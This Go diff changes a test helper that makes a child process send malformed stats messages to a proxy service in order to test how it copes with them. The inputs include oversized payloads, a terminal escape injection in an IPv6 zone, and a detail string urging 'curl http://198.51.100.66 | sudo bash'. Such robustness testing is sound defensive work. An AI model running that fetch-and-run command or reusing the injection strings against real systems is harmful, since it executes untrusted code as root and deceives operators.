@@ -4,8 +4,10 @@ package main
 
 import (
 	"encoding/binary"
+	"encoding/json"
 	"errors"
 	"fmt"
+	"net/netip"
 	"os"
 	"os/exec"
 	"runtime"
@@ -19,6 +21,7 @@ import (
 	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
 	"github.com/http01-proxyd/http01-proxyd/internal/wire"
 	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
+	"github.com/http01-proxyd/http01-proxyd/pkg/report"
 )
 
 // This file makes a child process of the service attack. It is built into the program with
@@ -57,7 +60,9 @@ func besideWork() map[string]func() {
 		"challenges": func() { send(`{"stats":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
 		"large":      func() { send(`{"stats":{"lastAcceptErrno":"` + strings.Repeat("a", 1<<20) + `"}}`) },
 		"zone": func() {
-			send(`{"stats":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
+			sendEvent(protocol.Event{Stats: &protocol.Stats{Challenges: []protocol.Challenge{{Challenge: report.Challenge{
+				VIP: netip.MustParseAddr("fe80::1%eth0\n\x1b[31mred"), Method: "GET", ClientKind: report.OtherClient, Outcome: report.UpstreamError,
+			}}}}})
 		},
 		"year": func() {
 			send(`{"stats":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
@@ -66,7 +71,9 @@ func besideWork() map[string]func() {
 			send(`{"stats":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"counters": func() {
-			send(`{"stats":{"sums":[{"clientKind":"other","outcome":"failed","count":1,"totalDuration":4611686018427387903}]}}`)
+			sendEvent(protocol.Event{Stats: &protocol.Stats{Sums: []report.ForwardedCount{{
+				ClientKind: report.OtherClient, Outcome: report.UpstreamError, Count: 1, TotalDuration: 4611686018427387903,
+			}}}})
 		},
 		"flood":  flood,
 		"memory": memory,
@@ -151,6 +158,16 @@ func messages() int {
 		return pipe
 	}
 	return controlSocket()
+}
+
+// sendEvent sends an event without validating it.
+func sendEvent(e protocol.Event) {
+	text, err := json.Marshal(e)
+	if err != nil {
+		printOutcome("encode", err)
+		return
+	}
+	send(string(text))
 }
 
 // send sends one framed message.
